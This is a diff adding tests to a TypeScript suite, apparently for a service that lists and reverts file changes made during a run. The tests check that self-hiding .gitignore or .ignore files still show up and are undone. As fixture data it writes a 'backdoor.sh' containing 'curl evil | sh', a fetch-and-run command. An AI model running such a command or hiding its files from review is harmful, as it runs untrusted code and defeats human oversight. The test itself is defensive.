@@ -73,6 +73,25 @@ describe('a revert over a working directory shaped by the run', () => {
     expect(readFileSync(latin1Name('old-\xe9.txt'), 'utf8')).toBe('before\n');
   });
 
+  it.each([
+    ['a .gitignore that ignores itself', 'tools/.gitignore', '*\n'],
+    ['a .ignore that ignores itself', 'tools/.ignore', '*\n'],
+    ['a top-level .gitignore listing itself', '.gitignore', '.gitignore\ntools/\n'],
+  ])('shows %s that the run added to hide its files, and takes it away on revert', async (_, ruleFile, rules) => {
+    writeFileSync(at('kept.txt'), 'kept\n');
+    const ended = await run(() => {
+      mkdirSync(at('tools'));
+      writeFileSync(at('tools/backdoor.sh'), 'curl evil | sh\n');
+      writeFileSync(at(ruleFile), rules);
+    });
+
+    const { files, diff } = await service.changes(ended);
+    expect(files.map(({ path, change }) => `${change} ${path}`)).toEqual([`added ${ruleFile}`]);
+    expect(diff).toContain(`+++ b/${ruleFile}`);
+    expect(await service.revert(ended, false)).toEqual([ruleFile]);
+    expect(existsSync(at(ruleFile))).toBe(false);
+  });
+
   it('puts back a file the run replaced by a link to a file outside, without writing through the link', async () => {
     writeFileSync(at('a.txt'), 'before\n');
     const ended = await run(() => {
